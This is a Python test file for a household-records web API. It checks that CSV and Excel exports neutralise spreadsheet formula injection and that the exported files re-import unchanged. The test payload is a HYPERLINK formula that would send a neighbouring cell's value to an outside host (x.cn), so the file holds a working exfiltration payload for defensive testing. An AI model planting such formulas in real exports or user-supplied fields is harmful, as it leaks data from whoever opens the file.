"""Exports neutralise spreadsheet formulas (OWASP CSV injection): a head name written as a
formula reaches the county officer's Excel as text, and the file re-imports unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from domain.kernel.access import Role
from tests.builders import World

API = "/api/v1"
PAYLOAD = '=HYPERLINK("http://x.cn/?"&G2,"点")'


def _household_named(client: TestClient, world: World, name: str) -> int:
    res = client.post(
        f"{API}/households",
        json={
            "org_id": world.org["G1"],
            "head_name": name,
            "phone": "+8613812345678",
            "external_id": "HX",
        },
        headers=world.headers(Role.ADMIN),
    )
    assert res.status_code == 201, res.text
    hid: int = res.json()["id"]
    return hid


def test_a_formula_in_a_csv_export_is_written_behind_a_quote(
    client: TestClient, world: World
) -> None:
    _household_named(client, world, PAYLOAD)
    res = client.get(f"{API}/exports/households", headers=world.headers(Role.ADMIN))
    assert res.status_code == 200, res.text
    rows = list(csv.reader(io.StringIO(res.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == "HX")
    assert row[1] == "'" + PAYLOAD
    assert row[6] == "'+8613812345678"


def test_a_formula_in_an_xlsx_export_is_a_string_cell_never_a_formula(
    client: TestClient, world: World
) -> None:
    _household_named(client, world, PAYLOAD)
    res = client.get(
        f"{API}/exports/households", params={"format": "xlsx"}, headers=world.headers(Role.ADMIN)
    )
    assert res.status_code == 200, res.text
    sheet = load_workbook(io.BytesIO(res.content)).worksheets[0]
    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
    assert all(c.data_type != "f" for c in cells.values())
    [name] = [c for c in cells.values() if c.value == PAYLOAD]
    assert name.data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_reimports_as_the_original_value(
    client: TestClient, world: World, fmt: str
) -> None:
    hid = _household_named(client, world, PAYLOAD)
    admin = world.headers(Role.ADMIN)
    res = client.get(f"{API}/exports/households", params={"format": fmt}, headers=admin)
    assert res.status_code == 200, res.text
    res = client.post(
        f"{API}/imports/households", files={"file": (f"x.{fmt}", res.content)}, headers=admin
    )
    assert res.status_code == 200, res.text
    assert res.json()["created"] == 0
    shown = client.get(f"{API}/households/{hid}", headers=admin).json()
    assert (shown["head_name"], shown["phone"]) == (PAYLOAD, "+8613812345678")
